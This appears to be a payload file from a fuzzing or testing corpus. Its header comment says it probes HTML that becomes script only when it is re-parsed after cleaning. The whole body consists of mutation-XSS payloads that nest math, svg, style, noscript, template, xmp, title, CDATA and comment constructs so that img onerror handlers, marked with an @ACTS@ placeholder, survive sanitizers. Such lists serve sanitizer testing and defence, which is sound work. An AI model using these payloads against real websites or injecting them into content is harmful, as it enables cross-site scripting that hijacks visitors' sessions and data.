# tries: HTML that becomes script only when it is parsed again after it was cleaned: tags in styles in tables in formulas, comments, titles
# %% why
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@ACTS@&gt;"></table></mtext></math>

<svg></p><style><a id="</style><img src=1 onerror=@ACTS@>"></a></style></svg> <noscript><p title="</noscript><img src=x onerror=@ACTS@>"></p></noscript>

<form><math><mtext></form><form><mglyph><style></math><img src onerror=@ACTS@></style></mglyph></form></mtext></math>

<template><svg><style><img src onerror=@ACTS@></style></svg></template><xmp><p title="</xmp><img src onerror=@ACTS@>"></p></xmp><title><p title="</title><img src onerror=@ACTS@>"></title>

<![CDATA[<img src onerror=@ACTS@>]]> <?xml <img src onerror=@ACTS@>?> <!--> <img src onerror=@ACTS@> --> <a title="`<img src onerror=@ACTS@>`">x</a> `<img src onerror=@ACTS@>`{=html}
